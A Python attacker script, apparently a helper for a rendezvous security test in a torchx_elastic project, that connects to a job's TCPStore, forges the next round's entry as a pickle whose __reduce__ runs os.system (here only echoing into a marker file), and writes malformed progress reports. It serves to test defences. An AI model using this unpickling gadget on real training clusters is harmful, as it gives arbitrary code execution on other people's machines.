"""What a process outside a job does to the job's rendezvous store (test_rendezvous_security).

``python rdzv_attacker.py HOST PORT RUN_ID MARKER``: connects to the store as a plain
``torch.distributed.TCPStore`` client, reads the outcome of the rendezvous' first round,
then for a few seconds writes the opening of the next round as a pickle that appends a line
to ``MARKER`` when unpickled (what torch's c10d rendezvous would unpickle), and a malformed
cross-node progress report (a ``step`` that is a string) for node 1 of the first rounds.
Prints ``unreachable`` when it cannot connect, else ``read N bytes`` and ``replaced``.
"""

from __future__ import annotations

import base64
import datetime
import os
import pickle
import socket
import sys
import time
from typing import Any

from torchx_elastic.agent.rendezvous.rounds.keys import PREFIX as ROUNDS_PREFIX
from torchx_elastic.contract import PROGRESS_KEY_PREFIX


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"echo ran in pid $PPID >> {self.marker}",))


def main() -> None:
    host, port, run_id, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
    from torch.distributed import TCPStore

    try:  # a port that refuses or does not answer is the answer, at once
        socket.create_connection((host, port), timeout=5).close()
    except OSError:
        print("unreachable", flush=True)
        return
    try:  # it answers: the store's handshake may take seconds on a loaded machine
        store = TCPStore(host, port, is_master=False, timeout=datetime.timedelta(seconds=60))
    except Exception:  # noqa: BLE001 - any failure to connect is the answer
        print("unreachable", flush=True)
        return
    key = f"torch.rendezvous.{run_id}"  # the prefix of each round's store
    rounds = f"{ROUNDS_PREFIX}{run_id}/"
    print(f"read {len(store.get(rounds + 'r0/done'))} bytes", flush=True)
    forged = base64.b64encode(pickle.dumps(Payload(marker)))
    report = b'{"node":1,"seq":999,"final":false,"ranks":[[1,"x",10,1.0,0.0,0]]}'
    for i in range(60):  # 3 s: the agents overwrite both with their own now and then
        try:
            if i % 10 == 0:
                store.set(rounds + "r1/opened", forged)
            for round_ in range(4):
                store.set(f"{key}.{round_}/{PROGRESS_KEY_PREFIX}1", report)
        except RuntimeError:  # the job ended: its store is gone
            break
        time.sleep(0.05)
    print("replaced", flush=True)


if __name__ == "__main__":
    main()
